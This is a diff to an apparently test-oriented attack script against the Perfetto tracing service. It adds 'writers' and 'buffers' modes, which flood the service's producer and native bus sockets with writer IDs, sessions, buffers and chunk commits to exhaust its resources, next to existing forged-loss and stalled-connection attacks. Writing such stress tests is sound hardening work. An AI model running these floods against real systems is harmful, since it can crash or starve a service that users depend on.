@@ -5,6 +5,9 @@
 perfetto-attacks.py deaf PRODUCER-SOCKET SOURCE      a producer that reads nothing, and has much to be answered
 perfetto-attacks.py deaf-consumer CONSUMER-SOCKET    a consumer, likewise
 perfetto-attacks.py losses PRODUCER-SOCKET SOURCE    a producer that says it has lost more than a counter holds
+perfetto-attacks.py writers PRODUCER-SOCKET SOURCE   a producer with as many writers as there are numbers
+perfetto-attacks.py buffers PRODUCER-SOCKET NATIVE-SOCKET N   writes to as many buffers as a user may have, of which N
+                                                     connections are told by signals
 perfetto-attacks.py unfinished SOCKET N              N connections, each with a frame that never ends
 perfetto-attacks.py probe CONSUMER-SOCKET ftrace|kprobe|uprobe   a consumer that wants kernel events, or a probe of its own;
                                                      says the answer
@@ -16,13 +19,16 @@ they are killed.
 
 import fcntl
 import os
+import select
 import socket
 import struct
 import sys
+import threading
 import time
 
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "integration"))
 import perfetto_ipc as ipc  # noqa: E402
+import raw_bus  # noqa: E402
 from perfetto_ipc import get, message  # noqa: E402
 from perfetto_wire import varint  # noqa: E402
 
@@ -31,6 +37,7 @@ CHUNKS, CHUNK_BUFFER, CHUNK_DATA = 1, 3, 4
 PREVIOUS_PACKET_DROPPED, TRACE_STATS, SERVICE_EVENT = 42, 35, 69
 LOST = (1 << 63) - 1
 WRITER = 1
+SESSIONS, BUFFERS = 8, 128  # SERVICE_SESSIONS_PER_USER_MAX, SESSION_BUFFERS_MAX
 STALLED_S = 2
 ENOUGH_BYTES = 64 << 20  # many times what may wait for one peer
 
@@ -94,13 +101,84 @@ def forged():
     ]
 
 
-def losses(address, source):
-    client, commands = producer(address, source)
+def buffer_of(client, commands):
+    """The one to write to, once a session wants the source."""
     client.socket.settimeout(None)
     command = b""
     while get(command, SETUP_SOURCE) is None:
         command = client.reply(commands)[2]
-    buffer = get(get(get(command, SETUP_SOURCE), CONFIG), TARGET_BUFFER, 0)
+    return get(get(get(command, SETUP_SOURCE), CONFIG), TARGET_BUFFER, 0)
+
+
+def writers(address, source):
+    """A packet each, in a message of a few hundred."""
+    client, commands = producer(address, source)
+    buffer = buffer_of(client, commands)
+    for first in range(1, 1 << 16, 256):
+        moves = [
+            message((CHUNK_BUFFER, buffer), (CHUNK_DATA, struct.pack("<IHH", 0, writer, 1) + b"\2\x48\1"))
+            for writer in range(first, min(first + 256, 1 << 16))
+        ]
+        client.ask("CommitData", message(*((CHUNKS, move) for move in moves)))
+    print("attacked", flush=True)
+    time.sleep(600)
+
+
+def start(native, config):
+    """A session of this config, for as long as the connection is there."""
+    entry = raw_bus.align(raw_bus.string("config") + b"\2ay\0", 4) + struct.pack("<I", len(config)) + config
+    peer = raw_bus.Peer(native)
+    body = raw_bus.align(struct.pack("<I", len(entry)), 8) + entry
+    peer.socket.sendall(raw_bus.call("StartSession", signature="a{sv}", body=body))
+    return peer
+
+
+def listen(native, n):
+    """Connections that are sent signals, and read them."""
+    poll = select.poll()
+    peers = {}
+    for _ in range(n):
+        peer = raw_bus.Peer(native)
+        peer.socket.sendall(raw_bus.call("ListPresets"))
+        peer.socket.setblocking(False)
+        peers[peer.socket.fileno()] = peer.socket
+        poll.register(peer.socket, select.POLLIN)
+    while peers:
+        for fd, _ in poll.poll():
+            try:
+                gone = not peers[fd].recv(1 << 20)
+            except OSError as error:
+                gone = not isinstance(error, BlockingIOError)
+            if gone:
+                poll.unregister(fd)
+                del peers[fd]
+
+
+def buffers(address, native, n):
+    """Each of eight sessions has as many buffers as a config may name, and one source for each of these."""
+    threading.Thread(target=listen, args=(native, int(n)), daemon=True).start()
+    client, commands = producer(address, "org.example.buffers")
+    client.socket.settimeout(None)
+    sources = [message((2, message((1, message((1, "org.example.buffers"), (2, i)))))) for i in range(BUFFERS)]
+    config = message((1, message((1, 64)))) * BUFFERS + b"".join(sources)
+    sessions = [start(native, config) for _ in range(SESSIONS)]
+    found = set()
+    while len(found) < BUFFERS * SESSIONS:
+        setup = get(client.reply(commands)[2], SETUP_SOURCE)
+        if setup is not None:
+            found.add(get(get(setup, CONFIG), TARGET_BUFFER, 0))
+    print("attacked", flush=True)
+    found = list(found)
+    while sessions:
+        for i in range(0, len(found), 128):
+            moves = [message((CHUNK_BUFFER, each), (CHUNK_DATA, chunk(i, b"\x48\1"))) for each in found[i : i + 128]]
+            client.ask("CommitData", message(*((CHUNKS, move) for move in moves)))
+        time.sleep(0.1)
+
+
+def losses(address, source):
+    client, commands = producer(address, source)
+    buffer = buffer_of(client, commands)
     for chunk_id in (0, 1 << 30, (1 << 31) - 1, (1 << 32) - 1, 5):
         move = message((CHUNK_BUFFER, buffer), (CHUNK_DATA, chunk(chunk_id, *forged())))
         client.ask("CommitData", message((CHUNKS, move)))
@@ -152,6 +230,6 @@ def pretend(address, source):
 
 
 if __name__ == "__main__":
-    verbs = {"deaf": deaf, "deaf-consumer": deaf_consumer, "losses": losses, "unfinished": unfinished}
-    verbs |= {"probe": probe, "pretend": pretend}
+    verbs = {"deaf": deaf, "deaf-consumer": deaf_consumer, "losses": losses, "writers": writers}
+    verbs |= {"buffers": buffers, "unfinished": unfinished, "probe": probe, "pretend": pretend}
     sys.exit(verbs[sys.argv[1]](*sys.argv[2:]))
